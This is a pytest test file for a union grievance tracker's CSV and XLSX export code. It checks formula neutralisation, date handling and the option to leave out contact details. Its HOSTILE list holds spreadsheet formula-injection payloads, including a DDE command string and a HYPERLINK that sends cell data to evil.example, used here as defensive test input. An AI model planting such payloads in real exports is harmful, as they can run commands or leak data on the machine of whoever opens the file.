"""Exports: formula neutralisation (CSV) and text cells (XLSX), real dates, no contact details,
read back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from naij_tracker.db.errors import StorageError
from naij_tracker.db.opening import Database
from naij_tracker.reports import exports as ex
from naij_tracker.services import export_tables as tables
from naij_tracker.services.deadlines import DeadlineService
from naij_tracker.services.matters import MatterService
from naij_tracker.services.people import PeopleService

HOSTILE = ["=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(1)", "\t=cmd", "\r=cmd",
           "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0"]
HARMLESS = ["Plain text", "a=b", "Smith, Jr.", "He said \"no\"", "line one\nline two", "١٢٣ ‏שלום"]


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_neutralises_every_formula_trigger(tmp_path: Path) -> None:
    table = ex.ExportTable("Test", ("Text", "Number"),
                           [(v, -5) for v in HOSTILE] + [(v, 2.5) for v in HARMLESS])
    path = ex.write_table(table, tmp_path / "out.csv")
    rows = _read_csv(path)
    assert rows[0] == ["Text", "Number"]
    for value, row in zip(HOSTILE, rows[1:], strict=False):
        assert row[0] == "'" + value
        assert row[1] == "-5"  # real numbers stay numbers (unquoted), even negative ones
    for value, row in zip(HARMLESS, rows[1 + len(HOSTILE):], strict=True):
        assert row[0] == value
    raw = path.read_text(encoding="utf-8-sig")
    assert '"\'=1+1"' in raw and ",-5" in raw  # text quoted, numbers bare
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8


def test_xlsx_writes_hostile_text_as_text_never_as_formulas(tmp_path: Path) -> None:
    table = ex.ExportTable("Test", ("Text", "When", "Number"),
                           [(v, date(2026, 3, 2), -5) for v in HOSTILE + HARMLESS])
    path = ex.write_table(table, tmp_path / "out.xlsx")
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(path).active
    assert ws is not None
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["Text", "When", "Number"] and rows[0][0].font.b
    for value, row in zip(HOSTILE + HARMLESS, rows[1:], strict=True):
        assert row[0].data_type == "s"
        assert row[0].value == value.replace("\r", "\n")  # exactly the text: no prefix needed
        assert row[1].is_date and row[1].value == datetime(2026, 3, 2)
        assert row[1].number_format == "yyyy-mm-dd"
        assert row[2].value == -5 and row[2].data_type == "n"
    assert ws.freeze_panes == "A2"


def test_text_spreadsheets_cannot_hold_is_cleaned_and_long_text_cut(tmp_path: Path) -> None:
    long = "x" * 40_000
    table = ex.ExportTable("Bad/Title: [1]", ("Text",),
                           [("nul\x00bell\x07", ), ("lone \ud800 surrogate",), ("\uffff",),
                            (long,)])
    xlsx = ex.write_table(table, tmp_path / "out.xlsx")
    ws = load_workbook(xlsx).active
    assert ws is not None
    values = [r[0].value for r in ws.iter_rows(min_row=2)]
    assert values[0] == "nulbell" and values[1] == "lone \ufffd surrogate"
    assert values[2] is None or values[2] == ""
    assert len(values[3]) == ex.XLSX_MAX_CELL and values[3].endswith("characters in the case file]")
    assert ws.title == "Bad Title   1"
    rows = _read_csv(ex.write_table(table, tmp_path / "out.csv"))
    assert rows[1] == ["nulbell"] and rows[4] == [long]


def test_unknown_format_and_unwritable_place(tmp_path: Path) -> None:
    table = ex.ExportTable("T", ("A",), [("x",)])
    with pytest.raises(ValueError, match=".csv or .xlsx"):
        ex.write_table(table, tmp_path / "out.pdf")
    with pytest.raises(StorageError, match="Could not write"):
        ex.write_table(table, tmp_path / "no-such-folder" / "out.csv")
    assert list(tmp_path.iterdir()) == []


def test_a_failed_export_leaves_the_previous_file_alone(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("previous export")

    class Boom:
        def __str__(self) -> str:
            raise RuntimeError("disk went away")

    table = ex.ExportTable("T", ("A",), [("fine",)] * 1000 + [(Boom(),)])
    with pytest.raises(RuntimeError):
        ex.write_csv(table, path)
    assert path.read_text() == "previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


# -- from the database -------------------------------------------------------------------------

@pytest.fixture
def filled(db: Database) -> Database:
    people = PeopleService(db, "t")
    ana = people.create_member({"name": "=Ana Petrova", "court": "Baltimore",
                                "email": "ana@example.org", "phone": "+1 410 555 0100",
                                "notes": "Call after 6pm: 410 555 0199"})
    matters = MatterService(db, "t")
    gid = matters.create("grievance", {"title": "=HYPERLINK(\"http://x\")",
                                       "grievance_number": "-G-1", "member_id": ana,
                                       "court": "@Baltimore", "filed_on": date(2026, 3, 2)})
    closed = matters.create("grievance", {"title": "Settled one", "grievance_number": "G-2",
                                          "filed_on": date(2025, 1, 6)})
    matters.close(closed, "settled", date(2025, 6, 1))
    matters.create("flra", {"title": "ULP over telework", "case_type": "ulp_against_agency",
                            "case_number": "WA-CA-26-0012", "filed_on": date(2026, 2, 1)})
    DeadlineService(db, "t").add_manual(gid, "+Step 2 appeal", date(2026, 3, 20))
    return db


def test_grievances_export_like_the_list_with_real_dates(filled: Database, tmp_path: Path) -> None:
    assert tables.export(filled, "grievances", tmp_path / "g.xlsx") == 1
    ws = load_workbook(tmp_path / "g.xlsx").active
    assert ws is not None
    rows = [[c for c in r] for r in ws.iter_rows()]
    headers = [c.value for c in rows[0]]
    assert headers == ["Number", "Member", "Court", "Step", "Status", "Filed", "Next deadline",
                       "Title", "Issue category", "CBA article", "Closed", "Remedy sought",
                       "Outcome", "Summary", "Owner", "Priority", "Tags"]
    record = dict(zip(headers, rows[1], strict=True))
    assert record["Number"].value == "-G-1" and record["Number"].data_type == "s"
    assert record["Member"].value == "=Ana Petrova" and record["Member"].data_type == "s"
    assert record["Filed"].value == datetime(2026, 3, 2) and record["Filed"].is_date
    assert record["Next deadline"].value == datetime(2026, 3, 20)
    assert record["Step"].value == "Step 1" or "1" in str(record["Step"].value)

    assert tables.export(filled, "grievances", tmp_path / "g.csv", include_closed=True) == 2
    rows_csv = _read_csv(tmp_path / "g.csv")
    numbers = {r[0] for r in rows_csv[1:]}
    assert numbers == {"'-G-1", "G-2"}
    first = next(r for r in rows_csv if r[0] == "'-G-1")
    assert first[1] == "'=Ana Petrova" and first[2] == "'@Baltimore"
    assert first[5] == "2026-03-02" and first[7] == "'=HYPERLINK(\"http://x\")"


def test_every_kind_exports(filled: Database, tmp_path: Path) -> None:
    for kind in ex.EXPORT_KINDS:
        for suffix in (".csv", ".xlsx"):
            out = tmp_path / f"{kind}{suffix}"
            n = tables.export(filled, kind, out, include_closed=True)
            assert out.exists() and out.stat().st_mode & 0o077 == 0
            assert n == {"bargaining": 0, "flra": 1, "grievances": 2, "metrics": 0,
                         "members": 1, "deadlines": 1}[kind]
    with pytest.raises(ValueError, match="choose one of"):
        tables.export(filled, "secrets", tmp_path / "x.csv")


def test_members_export_can_leave_out_contact_details(filled: Database, tmp_path: Path) -> None:
    tables.export(filled, "members", tmp_path / "with.csv")
    with_contacts = _read_csv(tmp_path / "with.csv")
    assert with_contacts[0] == ["Name", "Court", "Email", "Phone", "Membership",
                                "Open grievances", "Notes"]
    assert with_contacts[1][3] == "'+1 410 555 0100"  # a phone number is not a formula
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"without{suffix}"
        tables.export(filled, "members", out, contacts=False)
        data = out.read_bytes() if suffix == ".csv" else b"".join(
            zipfile.ZipFile(out).read(n) for n in zipfile.ZipFile(out).namelist())
        for secret in (b"ana@example.org", b"555 0100", b"555 0199", b"Email", b"Phone"):
            assert secret not in data
        assert b"Ana Petrova" in data
    rows = _read_csv(tmp_path / "without.csv")
    assert rows[0] == ["Name", "Court", "Membership", "Open grievances"]
    assert rows[1] == ["'=Ana Petrova", "Baltimore", "Member", "1"]


def test_deadlines_export_says_how_each_was_counted(filled: Database, tmp_path: Path) -> None:
    tables.export(filled, "deadlines", tmp_path / "d.xlsx")
    ws = load_workbook(tmp_path / "d.xlsx").active
    assert ws is not None
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:4] == ("Due", "Deadline", "Matter", "Matter title")
    assert rows[1][0] == datetime(2026, 3, 20) and rows[1][1] == "+Step 2 appeal"
    csv_rows = _read_csv(ex.write_table(tables.deadlines_table(filled), tmp_path / "d.csv"))
    assert csv_rows[1][:2] == ["2026-03-20", "'+Step 2 appeal"]


def test_a_list_as_the_gui_holds_it(filled: Database, tmp_path: Path) -> None:
    from naij_tracker.services.queries import list_matters

    result = list_matters(filled, "grievance", include_closed=True, sort_key="number")
    table = tables.table_from_list("Grievances", [c.label for c in result.columns], result.rows)
    assert len(table.rows[0]) == len(result.columns)
    rows = _read_csv(ex.write_table(table, tmp_path / "view.csv"))
    assert [r[0] for r in rows[1:]] == ["'-G-1", "G-2"]
